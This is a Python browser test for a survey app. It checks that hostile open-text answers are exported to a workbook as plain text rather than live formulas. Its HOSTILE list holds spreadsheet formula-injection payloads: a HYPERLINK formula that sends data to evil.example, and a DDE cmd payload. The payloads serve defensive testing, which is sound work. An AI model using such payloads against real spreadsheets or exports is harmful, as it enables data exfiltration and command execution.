"""A manager reads hostile open answers and downloads them: shown as typed, never a formula.

The journey: the app on a cluster whose survey has open answers written by outsiders
(``=HYPERLINK(…)``, ``+cmd|…``, ``@SUM(1)``); the manager opens Surveys, unfolds the open
answers, finds no built-in "Download as CSV" on the table, downloads the table's workbook and
opens it: every answer is a text cell with exactly what was typed.
"""

from __future__ import annotations

import io
from pathlib import Path

import openpyxl
import pytest
from playwright.sync_api import expect, sync_playwright

from data.demo import load_demo
from data.store import open_db
from i18n import t
from tests.browser.server import app_server, launch, open_page, settle

pytestmark = pytest.mark.browser
HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"Klikkaa")', "+cmd|' /C calc'!A0", "@SUM(1)"]


def survey_with_hostile_answers(db: Path, monkeypatch: pytest.MonkeyPatch, key: Path) -> str:
    """The demo cluster plus the hostile answers to its first open question; that question."""
    monkeypatch.setenv("KLUSTERIMITTARI_KEY_FILE", str(key))
    con = open_db(db)
    try:
        load_demo(con)
        code, text = con.execute(
            "SELECT code, text_fi FROM survey_item WHERE scale = 'text' ORDER BY code LIMIT 1"
        ).fetchone()
        for number, answer in enumerate(HOSTILE):
            con.execute(
                "INSERT INTO survey_answer (cluster_id, survey_id, import_id, response_no,"
                " item_code, value_text) SELECT cluster_id, survey_id, import_id, 9000 + ?, ?, ?"
                " FROM v_survey ORDER BY year DESC LIMIT 1",
                [number, code, answer],
            )
    finally:
        con.close()
    return f"{code} {text}"


def test_open_answers_download_as_text(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    db, key = tmp_path / "app.duckdb", tmp_path / "app.key"
    question = survey_with_hostile_answers(db, monkeypatch, key)
    with app_server(db, key) as url, sync_playwright() as playwright:
        browser = launch(playwright)
        page = browser.new_page(viewport={"width": 1400, "height": 1000}, accept_downloads=True)
        errors: list[str] = []
        page.on("pageerror", lambda error: errors.append(str(error)))
        page.goto(url)
        settle(page)
        open_page(page, t("ui.page.surveys", "fi"))
        page.get_by_text(question).first.click()
        expander = page.locator("[data-testid='stExpander']", has_text=question).first
        table = expander.locator("[data-testid='stDataFrame']").first
        expect(table).to_be_visible()
        table.hover()
        expect(page.get_by_role("button", name="Download as CSV")).to_have_count(0)
        with page.expect_download() as download_info:
            expander.get_by_role("button", name=t("ui.export.table", "fi")).click()
        book = openpyxl.load_workbook(io.BytesIO(Path(download_info.value.path()).read_bytes()))
        cells = [cell for row in book.active.iter_rows() for cell in row]
        typed = [cell for cell in cells if cell.value in HOSTILE]
        assert sorted(cell.value for cell in typed) == sorted(HOSTILE)
        assert {cell.data_type for cell in typed} == {"s"}  # text, never a formula
        browser.close()
        assert errors == []
